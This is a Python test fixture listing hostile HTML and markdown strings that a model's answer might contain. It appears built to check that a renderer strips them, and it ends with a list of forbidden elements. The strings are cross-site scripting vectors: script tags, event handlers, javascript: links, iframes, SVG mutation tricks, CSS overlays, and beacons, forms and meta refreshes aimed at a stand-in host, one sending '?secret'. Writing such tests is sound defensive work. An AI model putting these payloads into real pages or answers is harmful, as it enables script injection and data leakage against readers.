"""What a model might say to harm its reader: if it were more than text, each would call `pwned()`, ask another host, or
lay something over the page. `HOST` stands for the address of that host."""

from __future__ import annotations

HOSTILE_TEXTS = {
    "script": "<script>pwned('script')</script><script src=\"http://HOST/script.js\"></script>",
    "handlers": "<img src=x onerror=\"pwned('onerror')\"><b onmouseover=pwned('over') onclick=pwned('click')>bold</b>"
    "<details open ontoggle=pwned('toggle')><summary>more</summary></details><input autofocus onfocus=pwned('focus')>",
    "links": "[a](javascript:pwned('link')) <a href=\"JaVaScRiPt:pwned('case')\">b</a> [c](data:text/html,1)"
    " <a href=\"vbscript:pwned('vb')\">d</a> [e](&#106;avascript:pwned('entity'))",
    "frames": '<iframe src="http://HOST/frame"></iframe><iframe srcdoc="<script>parent.pwned(1)</script>"></iframe>'
    '<object data="http://HOST/object"></object><embed src="http://HOST/embed">',
    "svg": "<svg onload=pwned('svg')><script>pwned('svg script')</script><use href=\"http://HOST/use.svg#a\"/>"
    "<animate onbegin=pwned('animate') attributeName=x dur=1s /></svg><math><mtext><style><img src=x"
    " onerror=pwned('mutation')></style></mtext></math>",
    "styles": '<style>* { background: url(http://HOST/style) !important }</style><p style="position:fixed;inset:0;'
    'background:url(http://HOST/inline)">over</p><link rel=stylesheet href=http://HOST/link.css>',
    "images": '![beacon](http://HOST/beacon.png?secret) <img src=http://HOST/image.png srcset="http://HOST/set.png 2x">'
    "<video src=http://HOST/video poster=http://HOST/poster></video><audio src=http://HOST/audio></audio>",
    "forms": "<form action=http://HOST/form><button autofocus>Your key</button></form><base href=http://HOST/>"
    '<meta http-equiv=refresh content="0;url=http://HOST/refresh">',
    "code": "```html\n<img src=x onerror=\"pwned('code')\">\n```\n`<script>pwned('span')</script>`",
}
# Elements that no answer may hold.
FORBIDDEN = (
    "script, iframe, object, embed, style, link, form, base, meta, video, audio, svg script, "
    "[onerror], [onclick], [onload], [onfocus], [ontoggle], [onmouseover], [onbegin]"
)
